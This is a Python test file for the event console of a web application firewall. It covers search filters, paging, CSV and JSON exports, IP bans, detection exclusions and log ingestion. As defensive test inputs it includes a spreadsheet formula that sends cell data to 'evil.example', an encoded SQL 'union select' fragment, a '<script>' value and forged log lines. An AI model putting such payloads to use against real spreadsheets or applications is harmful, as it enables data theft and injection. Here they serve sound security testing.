"""Searching events, exporting them, and acting on one."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest

from guard_wsgi.cli.shared import shared_store
from guard_wsgi.config.exclusion import detection_exclusions
from guard_wsgi.config.security import SecurityConfig
from guard_wsgi_flask.console import exclusions, search
from guard_wsgi_flask.console.keys import NewKey
from guard_wsgi_flask.console.logreader import LogReader
from guard_wsgi_flask.console.pages.events import harmless
from guard_wsgi_flask.console.records import event_of
from guard_wsgi_flask.console.search import Cursor, Filters
from guard_wsgi_flask.console.serving import Console
from tests.console.conftest import Browser, MakeConsole, log_in
from tests.console.sending import FINDING, event, send


def find(console: Console, **filters: str) -> list[dict[str, Any]]:
    return search.find(console.services.database, Filters(**filters)).rows


def test_every_filter_finds_what_it_says(console: Console, key: NewKey) -> None:
    other = console.services.keys.create("blog", "tests")
    send(console, key, event(country="DE", endpoint="/orders/1234/edit"))
    send(
        console,
        key,
        event(
            event_type="rate_limited",
            ip_address="198.51.100.4",
            metadata={"check": "rate_limit", "threat_categories": []},
        ),
    )
    send(console, other, event(action_taken="logged_only", method="POST", reason="50%_off"))
    expected = {
        "app": ("blog", 1),
        "kind": ("rate_limited", 1),
        "category": ("sqli", 2),
        "client": ("198.51.100.4", 1),
        "country": ("DE", 1),
        "outcome": ("would", 1),
        "template": ("/orders/*", 1),
        "method": ("POST", 1),
        "check": ("rate_limit", 1),
        "path": ("/orders/", 1),
        "text": ("0%_O", 1),
        "period": ("hour", 3),
    }
    names = {name for name in Filters.__slots__ if not name.startswith("_")}
    assert names == set(expected)
    for name, (value, number) in expected.items():
        assert len(find(console, **{name: value})) == number, name
        assert name == "period" or find(console, **{name: value + "x"}) == []


@pytest.mark.parametrize(
    ("action", "outcome"),
    [
        ("request_blocked", "refused"),
        ("logged_only", "would"),
        ("banned", "told"),
        ("", "told"),
        ("rules_rejected", "told"),
    ],
)
def test_only_requests_are_refused(
    console: Console, key: NewKey, action: str, outcome: str
) -> None:
    send(console, key, event(action_taken=action))
    assert find(console)[0]["outcome"] == outcome


def test_pages_follow_each_other_without_gap_or_repeat(console: Console, key: NewKey) -> None:
    same = "2026-01-02T03:04:05+00:00"
    send(console, key, *(event(endpoint=f"/{n}", timestamp=same) for n in range(95)))
    send(console, key, *(event(endpoint=f"/{n}") for n in range(95, 130)))
    seen: list[str] = []
    after: Cursor | None = None
    while True:
        page = search.find(console.services.database, Filters(), after)
        seen += [row["path"] for row in page.rows]
        if page.following is None:
            break
        after = Cursor.of(str(page.following))
    assert sorted(seen) == sorted(f"/{n}" for n in range(130))


def test_a_search_whose_time_is_over_goes_on_where_it_was(
    console: Console, key: NewKey, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(search, "FIRST_PIECE", 10)
    monkeypatch.setattr(search, "LARGEST_PIECE", 10)
    send(console, key, event(reason="needle"), *(event() for _ in range(60)))
    after: Cursor | None = None
    found, pages = [], 0
    while True:
        page = search.find(
            console.services.database, Filters(text="needle"), after, budget_seconds=0
        )
        found += page.rows
        pages += 1
        if page.following is None:
            break
        assert page.is_partial
        after = page.following
    assert len(found) == 1
    assert pages == 6


@pytest.mark.parametrize("text", ["", "x", "1-", "-1", "1-2-3", "1" * 50 + "-1", "²-1"])
def test_an_odd_place_to_go_on_is_the_beginning(admin: Browser, text: str) -> None:
    assert admin.get("/events", query_string={"after": text}).status_code == 200


def test_exports_hold_what_the_view_holds(console: Console, key: NewKey, admin: Browser) -> None:
    quoted = event(extra_field=7, metadata={"request_id": "7f3a"})
    send(console, key, event(ip_address="198.51.100.4"), quoted)
    assert admin.get("/events/99999999999999999999999").status_code == 404
    rows = list(csv.DictReader(io.StringIO(admin.get("/events.csv?client=203.0.113.7").text)))
    assert [row["client"] for row in rows] == ["203.0.113.7"]
    assert datetime.fromisoformat(rows[0]["at"]).tzinfo is not None
    assert rows[0]["reference"] == "7f3a"
    assert float(rows[0]["score"]) == 4.8
    lines = admin.get("/events.json").text.splitlines()
    assert {json.loads(line)["ip_address"] for line in lines} == {"198.51.100.4", "203.0.113.7"}
    assert any(json.loads(line).get("extra_field") == 7 for line in lines)


@pytest.mark.parametrize(
    "start", ["=", "+", "-", "@", "\t=", "\r=", " =", "  @", "＝", "\n=", "\u00a0="]
)
def test_no_cell_is_a_formula(console: Console, key: NewKey, admin: Browser, start: str) -> None:
    formula = start + 'HYPERLINK("http://evil.example?"&A1)'
    assert harmless(formula).startswith("'")
    fields = {
        "ip_address": formula,
        "reason": formula,
        "endpoint": formula,
        "method": formula,
        "user_agent": formula,
        "country": formula,
        "event_type": formula.strip() or "x",
    }
    send(console, key, event(**fields))
    for row in csv.reader(io.StringIO(admin.get("/events.csv").text)):
        assert not any(
            cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row
        )


def test_an_event_says_why_with_weights(console: Console, key: NewKey, admin: Browser) -> None:
    encoded = {**FINDING, "value": "1%2527 union%2520select", "name": "password"}
    pair = {**FINDING, "indicators": "sql.union_select sql.trailing_comment & size:M x"}
    send(console, key, event(metadata={"findings": [encoded, pair]}))
    page = admin.get("/events/1").text
    assert "sql.union_select" in page
    assert "sql.trailing_comment &amp; size:M" in page
    assert "threshold 1.00" in page
    assert "1&#39; union select" in page  # a decoded view
    assert "password" in page


def test_a_ban_goes_into_the_rules_and_an_unban_takes_it_out(
    console: Console, key: NewKey, admin: Browser
) -> None:
    send(console, key, event())
    assert admin.post("/bans", target="203.0.113.7", time="1h", app="shop").status_code == 303
    version, body = console.services.rules.current("shop")
    assert body["ip_blacklist"] == ["203.0.113.7"]
    assert "203.0.113.7" in body["ip_ban_until"]
    assert "banned" in admin.get("/events/1").text
    admin.post("/bans/lift", target="203.0.113.7", app="shop")
    later, body = console.services.rules.current("shop")
    assert later == version + 1
    assert body == {"ip_whitelist": ["203.0.113.7"]}


@pytest.mark.parametrize(
    ("target", "time"),
    [
        ("", "1h"),
        ("x", "1h"),
        ("<script>", "1h"),
        ("203.0.113.7", ""),
        ("203.0.113.7", "0"),
        ("203.0.113.7", "9" * 40 + "d"),
        ("203.0.113.7", "100000000000d"),
    ],
)
def test_an_odd_ban_is_an_error_that_says_so(
    console: Console, key: NewKey, admin: Browser, target: str, time: str
) -> None:
    answer = admin.post("/bans", target=target, time=time, app="shop")
    assert answer.status_code == 400
    assert "<script>" not in answer.text
    assert console.services.rules.current("shop") == (0, {})


def test_not_an_attack_puts_the_narrowest_exclusion_into_force(
    console: Console, key: NewKey, admin: Browser
) -> None:
    send(console, key, event(), event(ip_address="198.51.100.9"), event(endpoint="/elsewhere"))
    page = admin.get("/events/1").text
    assert "path = &#34;/search&#34;" in page
    assert "params = [&#34;q&#34;]" in page
    assert "let 2 through, from 2 clients" in admin.get("/events/1/exclusion").text
    assert admin.post("/events/1/exclude").status_code == 303
    _, body = console.services.rules.current("shop")
    assert body["detection_exclusions"] == [
        {"path": "/search", "params": ["q"], "categories": ["sqli"]}
    ]
    admin.post("/events/1/exclude")
    assert len(console.services.rules.current("shop")[1]["detection_exclusions"]) == 1


@pytest.mark.parametrize(
    ("sent", "template", "path"),
    [
        ({"endpoint": "(unmatched)"}, "(unmatched)", None),
        ({"endpoint": "/items/<int:id>/edit"}, "/items/*", "/items/*"),
        ({"endpoint": "/items/<int:id>", "path": "/items/77"}, "/items/*", "/items/*"),
        ({"endpoint": "(unmatched)", "path": "/.env"}, "/.env", "/.env"),
        ({"endpoint": "/plain"}, "/plain", "/plain"),
    ],
)
def test_exclusions_are_proposed_for_what_the_agent_tells_of_a_path(
    console: Console, key: NewKey, sent: dict[str, str], template: str, path: str | None
) -> None:
    send(console, key, {**event(), **sent})
    (row,) = find(console)
    assert row["template"] == template
    proposed = exclusions.propose(event_of(row))
    assert [entry["path"] for entry in proposed] == ([path] if path else [])
    if path:
        assert exclusions.covers(detection_exclusions(proposed), event_of(row))


def test_the_store_of_the_workers_shows_its_bans(make_console: MakeConsole, tmp_path: Path) -> None:
    url = f"lmdb://{tmp_path}/guard"
    console = make_console(store=url)
    key = console.services.keys.create("shop", "tests")
    send(console, key, event())
    admin = log_in(console)
    admin.post("/bans", target="203.0.113.7", time="1h", app="")
    with shared_store(SecurityConfig(store_url=url)) as store:
        assert [ban.target for ban in store.bans.list()] == ["203.0.113.7"]
    assert "by local in the console" in admin.get("/client?client=203.0.113.7").text
    assert "203.0.113.7" in admin.get("/clients").text
    admin.post("/bans/lift", target="203.0.113.7", app="")
    assert "in the store" not in admin.get("/client?client=203.0.113.7").text


def test_a_client_can_be_forgotten(console: Console, key: NewKey, admin: Browser) -> None:
    send(console, key, event(), event(ip_address="198.51.100.9"))
    admin.post("/data/delete", client="203.0.113.7")
    assert [row["client"] for row in find(console)] == ["198.51.100.9"]
    assert "no event of this client" in admin.get("/client?client=203.0.113.7").text
    admin.post("/data/delete", client="")
    assert find(console) == []


# The log ----------------------------------------------------------------------------------------


def _line(**fields: Any) -> bytes:
    entry = {
        "timestamp": "2026-01-02T03:04:05+00:00",
        "level": "WARNING",
        "message": "m",
        "event": "penetration_attempt",
        "action": "request_blocked",
        "method": "GET",
        "client_ip": "203.0.113.7",
        "path": "/search",
        "check": "suspicious_activity",
        "findings": [FINDING],
        "threat_categories": ["sqli"],
        **fields,
    }
    return json.dumps(entry).encode() + b"\n"


def test_a_log_is_read_from_its_beginning_followed_and_never_twice(
    console: Console, tmp_path: Path
) -> None:
    log = tmp_path / "guard.log"

    def reader() -> LogReader:
        return LogReader(log, console.services.database, console.services.intake)

    assert reader().read_on() == 0  # it is not there yet
    log.write_bytes(_line() + b"plain text\n{}\n[1]\n" + _line(path="/a") + _line()[:-10])
    assert reader().read_on() == 2
    assert reader().read_on() == 0
    with log.open("ab") as file:
        file.write(_line()[-10:])
    assert reader().read_on() == 1
    log.rename(tmp_path / "guard.log.1")
    log.write_bytes(_line(path="/rotated"))
    assert reader().read_on() == 1
    log.write_bytes(b"")
    assert reader().read_on() == 0
    assert len(find(console)) == 4
    assert {row["category"] for row in find(console)} == {"sqli"}


def test_what_is_written_into_a_log_by_others_makes_no_row(
    console: Console, tmp_path: Path
) -> None:
    log = tmp_path / "guard.log"
    forged = 'x"}\n{"event": "forged", "action": "request_blocked"}\n'
    log.write_bytes(_line(reason=forged, path=forged) + b'{"event": 5}\n' + b"{" * 100_000 + b"\n")
    reader = LogReader(log, console.services.database, console.services.intake)
    assert reader.read_on() == 1
    assert [row["kind"] for row in find(console)] == ["penetration_attempt"]


def test_a_log_that_holds_what_an_agent_sends_is_reported(
    console: Console, key: NewKey, admin: Browser, tmp_path: Path
) -> None:
    path = tmp_path / "guard.log"
    line = {
        "event": "penetration_attempt",
        "action": "request_blocked",
        "client_ip": "203.0.113.7",
        "request_id": "7f3a9b",
    }
    path.write_text(json.dumps(line) + "\n")
    LogReader(path, console.services.database, console.services.intake).read_on()
    assert "counted twice" not in admin.get("/").text
    send(console, key, event(metadata={"request_id": "7f3a9b"}))
    with path.open("a") as file:
        file.write(json.dumps(line) + "\n")
    LogReader(path, console.services.database, console.services.intake).read_on()
    assert "the same events as the agent of shop" in admin.get("/").text
